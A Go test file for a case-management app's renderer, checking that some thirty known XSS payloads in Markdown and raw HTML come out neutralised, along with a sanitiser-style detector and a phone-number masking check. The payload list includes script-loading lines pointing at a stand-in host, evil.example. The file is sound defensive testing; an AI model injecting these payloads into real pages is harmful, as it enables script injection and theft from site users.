package cases_test

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/servicestar/servicestar/app/cases"
	"github.com/servicestar/servicestar/app/testkit"
)

// Known XSS payloads, in Markdown and raw HTML, each saved in a case body
// and read back rendered: nothing that runs script survives.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<svg/onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<body onload=alert(1)>`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
	`[x](javascript:alert(1))`,
	`[x](JAVASCRIPT:alert(1))`,
	`[x](&#x6A;avascript:alert(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`![img](javascript:alert(1))`,
	`![x](x" onerror="alert(1))`,
	`<a href="vbscript:msgbox(1)">vb</a>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	`<details open ontoggle=alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<<script>script>alert(1)<</script>/script>`,
	"```html\n<script>alert(1)</script>\n```",
	`<a href=" javascript:alert(1)">space</a>`,
	`<p onclick="alert(1)">p</p>`,
}

// dangerous reads rendered HTML as a browser would and returns the first
// thing in it that could run: a script, style, iframe, object, embed, svg,
// math, form, meta, base or body element, an on* or style attribute, or a
// javascript:, vbscript: or data: URL. Text that merely looks like markup
// (escaped) is text, and fine.
func dangerous(s string) string {
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "style", "iframe", "object", "embed", "svg", "math", "form", "meta", "base", "body", "link":
				return "<" + tok.Data + ">"
			}
			for _, a := range tok.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" ||
					strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:") {
					return a.Key + "=" + a.Val
				}
			}
		}
	}
}

func TestXSSPayloadsAreNeutralised(t *testing.T) {
	for _, p := range xssPayloads {
		if out := cases.RenderHTML(p); dangerous(out) != "" {
			t.Errorf("RenderHTML(%q) = %q", p, out)
		}
	}
	// Through save and read, in every Markdown field.
	env := testkit.New(t)
	emp := env.Login("demo", "emp.north.1")
	all := strings.Join(xssPayloads, "\n\n")
	c := decode[caseOut](t, must(t, emp, 200, "POST", "/api/v1/cases", body("XSS", map[string]any{"situation": all, "actions": all, "outcome": all, "lesson": all})))
	got := decode[caseOut](t, must(t, emp, 200, "GET", fmt.Sprintf("/api/v1/cases/%d", c.ID), nil))
	for name, out := range map[string]string{"situation": got.SituationHTML, "actions": got.ActionsHTML, "outcome": got.OutcomeHTML, "lesson": got.LessonHTML} {
		if m := dangerous(out); m != "" {
			t.Errorf("%s_html keeps %q: %s", name, m, out)
		}
	}
	// The editor's preview renders the same way, and masks what a save would.
	type previewOut struct{ HTML map[string]string }
	pv := decode[previewOut](t, must(t, emp, 200, "POST", "/api/v1/cases/preview", map[string]string{"situation": all, "lesson": "**客户**来电 13812345678"}))
	if m := dangerous(pv.HTML["situation"]); m != "" || pv.HTML["situation"] == "" {
		t.Errorf("preview keeps %q: %s", m, pv.HTML["situation"])
	}
	if l := pv.HTML["lesson"]; !strings.Contains(l, "<strong>客户</strong>") || !strings.Contains(l, "138****5678") || strings.Contains(l, "13812345678") {
		t.Errorf("preview of the lesson: %s", l)
	}
	// The checker itself sees what it must.
	for _, bad := range []string{`<a href=" JavaScript:x">`, `<img src=x onerror=y>`, `<script>`, `<p style="x">`} {
		if dangerous(bad) == "" {
			t.Errorf("the checker misses %s", bad)
		}
	}
	if got.Situation != all {
		t.Error("the Markdown source was changed; it is kept as written and rendered safely")
	}
	// A snippet is built from plain text, escaped: no markup but <mark>.
	snip := cases.Snippet(`<img src=x onerror=alert(1)> 理财 <script>`, []string{"理财"})
	if strings.Contains(snip, "<img") || strings.Contains(snip, "<script") || !strings.Contains(snip, "<mark>理财</mark>") {
		t.Errorf("snippet %q", snip)
	}
}
